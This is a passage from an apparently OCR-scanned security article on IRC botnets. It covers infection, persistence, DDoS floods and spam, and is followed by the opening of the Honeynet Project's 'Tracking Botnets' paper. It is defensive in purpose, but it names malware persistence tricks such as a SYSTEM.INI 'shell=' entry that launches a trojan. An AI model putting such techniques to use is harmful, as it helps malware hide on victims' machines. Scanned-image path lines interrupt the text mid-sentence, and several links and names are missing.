(Distributed Denial Of Service) generating huge amounts of malicious traffic to down the IRC Servers.Bots are also configured to generate clones (Multiple incidences of themselves) that join other IRC
Servers and mass spam message users with URL's for infectious downloads. These most commonly
come in the form of fake warning alerting the user they have an autosending Worm, Trojan or Virus
infection or as an advert for a free sex site along with a few other disguises.

We recently witnessed a Botnet of just over 7000 infected machines all infected with not one but two
different Bots, both GT Bot and Litmus Bot which were spread by spamming IRC users and by
autosends. Once infected with the Web Download Trojan the infected machine would download a

packaged executable created by a program called PaquetBuilder32 and execute it. This would install a
GT Botthat connects to IRC.Dal.Net and joins target channels and autosends by DCC (Direct Client To
Client Protocol) a copy of the Web Downloader Trojan which infects more machines. This works in two
parts with one Bot infecting other users to create more Bots and the other logging onto a different IRC
server to report for duty for DDoS attacks. Over the course of our studies we have collected and
assimilated a lot of information and IRC channel logs and screen captures showing alsorts of different Bot
activity including DDoS attacks.

(b.) Once the Trojan is run it secretly installs itself and creates a method to restart itself. Commonly used
is the WIN.INI run = or load= lines or the SYSTEM.INI under shell= after explorer.exe eg.
(shell=explorer.exe ,trojanbot.exe) or loads from the Registry or Start Up folder.

(c.) When installed and running the Bot will attempt to connect to an IRC Server on a pre designated port.
The most common connection port to attempt connection to is the default Port 6667. It should also be
considered that IRC Servers usually listen on several other ports by default including 6660, 6661, 6662,
6663, 6664, 6665, 6666, 6668, 6669 and 7000. These other ports are oftenused so that the more
commonly known Port 6667 is not shown in Netstat as a remote port that the computer is connected to.

Another thing that should be noted is that an IRC Server is not limited to the ports listed above an in fact
can be set to listen on any port for connections. IRCD versions for Windows are often configured to run
on Port 80 or othe similar ports which wont arouse too much suspicion as a remote port connection.
Some BotNets run Trojanized Windows IRCDs such as Unreal IRCD 3.0 for Windows which has been
adapted to run as a hidden task under the process name Coresrv.exe and it loads Coresrv.dat as the
IRCD configuration file. This enables BotNets to behidden on non public providers machines which are a
lot harder to have removed than a simple complaint to a shell host provider. The user must first be
contacted which is no easy task especially when having to do it through the ISP which often has little or
no conception of what this stuff is or how it works. They most probably think email of complaint are the
ravings of somemad man with an overactive imagination and who could blame them as a lot of it sounds
too fantastic to be true.

Most BotNets are however forced to join public or private IRC Servers hosted by commercial shell hosting
companies operating on a Unix flavoured operating platform.

Once connected to IRC the Bot will log into the predetermined rendezvous channel to await further
instructions from it's Master.

(d.) Often as these Bots join the IRC channel the Master will log into them with a special and sometimes
encrypted access password. This ensures that the Bots cannot be controlled by other people and makes
it harder for someone to hijack the BotNet. After the login has been accepted if indeed it was required the
Bots are now ready to be put to work. Our screen capture archive which we obtained from undercover
surveillance shows much activity going on in these Bot channels with lots of DDoS attacks and IRC floods
being invoked. Even as I write I am witnessing channels being heavily flooded on DALnet by floods of GT
Bots which hardly display any of the traits of sluggish and lifeless Zombies. As I sit here so far over 50
different channels have been brought to a stand still by huge floods of data where the Bot connects,
sends a message to the channel and immediately disconnects and then reconnects and performs the
action repeatedly in a loop until ordered to stop on the remote server. As this is of extra added interest Ihave decided to also include screenshots of both the remote IRC channel where the orders are given and
one of the channels which were attacked. The attack being launched here and the results of the attack
and what the victims saw here. The screen captures from when I joined the channel to observe the
BotNet. here and here show the number of GT Bots in each of the channels. The channel modes should
be also noted which appear in the title bar of the channel window as +mnprtu which is set that way to hide
the nicknames of the Bots in the channel from the user list on the right hand side of the image. We will be
covering channel moding and what these modes mean and do in section 4 (f.) of this article.

(e.) An idea of how Bots are used to spam becomes obvious when you look at this image here showing
GT Botsbeing commanded to spam a remote IRC Network with fake virus warnings urging people to go
and download a fake cure which will make them become infected with a GT Bot. This is a common and
effective strategy amongst BotNet owners to play on normal users fears and concerns. These Bots are
normally joined into popular channels with several hundred people in them and message everybody as
they join with a spam message such as the one in the above image. They are able to generate huge
amounts of spam per session and infect many users that increase the head count of the BotNet and of
course make any attacks launched more devastating.

(f.) BotNets often draw attention to themselves by traffic patterns which are soon picked up on by vigilant
IRC Administrators or Shell Providers and the channels they join closed or the shell account removed due
to abuse complaint. If they joined a fixed IRC Server name or IP address the likelihood is that they would
all be lost from some basic action on the part of the service providers.

This iswhy BotNets often follow dynamic hosts which are quick and easy to edit to repoint the entire army
elsewhere if accidently stumbled upon or banned from an IRC Server or channel. If the dynamic address
that the Bots follow can be identified then it is not too hard to complain to the provider of the dynamic
account and request that it be null routed. The smart money is always on going after the dynamic DNS if
you can recover the information as to which dynamic it is using.

A common provider of free dynamic accounts is . These accounts can be and are used for
many legitimate purposes but are also unfortunately prone to misuse by some users. Dyndns has strong
terms of service governing these accounts and abuse of them. In our experiences with dyndns the abuse
department rigidly enforcestheir policies and terminates abused accounts promptly when proof of abuse
is provided. You will find here one example of how abuse was handled without a report even being made
to the abuse department. here

When the Bots are connected to the IRC Server the channelthey join is usually set with various channel
modes to restrict access or help stealth the fact that the channel or the occupants of the channel are
there. Unreal IRCD which is a popular choice with BotNet Masters covers the channel modes in it's own
commands document so I will refer to that rather than do a complete rewrite. here You may notice from
the images in the gallery here the modes the channel is set at and be able to quickly reference them from
the Unreal IRCD document about halfway down.

Typically the channels will be set with these modes at least.

+s (secret : cannot be seen in channels list)

+u (userlist is hidden)

+m (moderated : a user cannot send text to that channel unless they have operator @ access or +v

+k (cannot enter the channel unless you know the correct key)

5. Conclusions.

(a.) People should be reasonably paranoid about accepting any files over the Internet from chatrooms or
visiting web sites that they do not know without at least checking that their web browser is updated withthe latest critical updates if they use Microsoft Internet Explorer. Test the security of your Internet Explorer
here. Many files are spread on IRC as * or *.MPEG.exe and other similar names to fool peopleinto accepting them. Even scanning files with Anti Virus scanners is not always good enough defense as
unknown Trojans would not be identified. Additional references here , here and here.

You can also download our Totally FREE Trojan, Bot, Zombie and Worm Scanner Swat
It from here

(b.) It is very important to remember that no matter what Anti Virus or Trojan software that you use that
you keep it regularly updated as new Trojans appear on a daily basis. A check for file signature updates
should be done on a daily basis unless you are using our software which negates the need to check as it
auto updates automatically when new file signatures are available.

                                      Appendix B:

                          Know your Enemy:Tracking Botnets
Using honeynets to learn more about Bots

The Honeynet Project & Research Alliance
Last Modified: 13 March 2005

Honeypots are a well known technique for discovering the tools, tactics, and motives of
attackers. In this paper we look at a special kind of threat: the individuals and organizations who
run botnets. A botnet is a network of compromised machines that can be remotely controlled by
an attacker. Due to their immense size (tens of thousands of systems can be linked together), they
pose a severe threat to the community. With the help of honeynets we can observe the people
who run botnets - a task that is difficult using other techniques. Due to the wealth of data logged,
it is possible to reconstruct the actions of attackers, the tools they use, and study them in detail.
In this paper we take a closer look at botnets, common attack techniques, and the individualsWe start with an introduction to botnets and how they work, with examples of their uses. We
then briefly analyze the three most common bot variants used. Next we discuss a technique to
observe botnets, allowing us to monitor the botnet and observe all commands issued by the
attacker. We presentcommon behavior we captured, as well as statistics on the quantitative
information learned through monitoring more than one hundred botnets during thelast few
months. We conclude with an overview of lessons learned and point out further research topics
in the area of botnet-tracking, including a tool called mwcollect2 that focuses on collecting
malware in an automated fashion.

These days, home PCs are a desirable target for attackers. Most of these systems run Microsoft
Windows and often are not properly patched or secured behind a firewall, leaving them
vulnerable to attack. In addition to these direct attacks, indirect attacks against programs the
victim uses are steadily increasing. Examples of these indirect attacks include malicious HTML-
files that exploit vulnerabilities in Microsoft's Internet Explorer or attacks using malware in Peer-
to-Peer networks. Especially machines with broadband connection that are always on are a
valuable target for attackers. As broadband connections increase, so to do the number of
potential victims of attacks. Crackers benefit from this situation and use it for their own
advantage. With automated techniques they scan specific network ranges of the Internet

searching for vulnerable systems with known weaknesses. Attackers often target Class B
networks (/16 in CIDR notation) or smaller net-ranges. Once these attackers have compromised
a machine, they install a so called IRC bot- also called zombie or drone - on it. Internet Relay
Chat (IRC) is a form of real-time communication over the Internet. It is mainly designed for
group (one-to-many) communication in discussion forums called channels, but also allows one-
to-one communication. More information about IRC can be found on Wikipedia.

We have identified many different versions of IRC-based bots (in the following we use the term
bot) with varying degrees of sophistication and implemented commands, but all have something
in common. The bot joins a specific IRC channel on anIRC server and waits there for further
commands. This allows an attacker to remotely control this bot and use it for fun and also for
profit. Attackers even go a step further and bring different bots together. Such a structure,
consisting of many compromised machines which can be managed from an IRC channel, is
called a botnet. IRC is not the best solution since the communication between bots and their
controllers is rather bloated, a simpler communication protocol would suffice. But IRC offers
several advantages: IRC Servers are freelyavailable and are easy to set up, and many attackers
have years of IRC communication experience.

Due to their immense size - botnets can consist of several ten thousand compromised machines -
botnets pose serious threats. Distributed denial-of-service (DDoS) attacks are one such threat.
Even a relatively small botnet with only 1000 bots can cause a great deal of damage. These 1000
bots have a combined bandwidth (1000 home PCs with an average upstream of 128KBit/s can
offer more than 100MBit/s) that is probably higher than the Internet connection of most
corporate systems. In addition, the IP distribution of the bots makes ingress filter construction,
maintenance, and deployment difficult. In addition, incident response is hampered by the large
number of separate organizations involved. Another use for botnets is stealing sensitive
information or identity theft: Searching some thousands home PCs for password.txt, or sniffing
their traffic, can be effective.

The spreading mechanisms used by bots is a leading cause for "background noise" on the
Internet, especially on TCP ports 445 and 135. In this context, the term spreading describes the
propagation methods used by the bots. These malware scan large network ranges for new
vulnerable computers and infect them, thus actingsimilar to a worm or virus. An analysis of the
traffic captured by the German Honeynet Project shows that most traffic targets the ports used
for resource sharing on machines running all versions of Microsoft's Windows operating system:

     Port 445/TCP (Microsoft-DS Service) is used for resource sharing on machines running
       Windows 2000, XP, or 2003, and other CIFS based connections. This port is for example
       used to connect to file shares.
     Port 139/TCP (NetBIOS Session Service) is used for resource sharing on machines
       running Windows 9x, ME and NT. Again, this port is used to connect to file shares.
     Port 137/UDP (NetBIOS Name Service) is used by computers running Windows to find
       out information concerning the networking features offered by another computer. The
       information that can be retrieved this way include system name, name of file shares, and

     And finally, port 135/TCP is used by Microsoft to implement Remote Procedure Call
       (RPC) services. An RPC service is a protocol that allows a computer program running on
       one host to cause code to be executed on another host without the programmer needing to
       explicitly code for this.

The traffic on these four ports cause more then 80 percent of the whole traffic captured. Further
research with tools such as Nmap, Xprobe2 and p0f reveal that machines running Windows XP
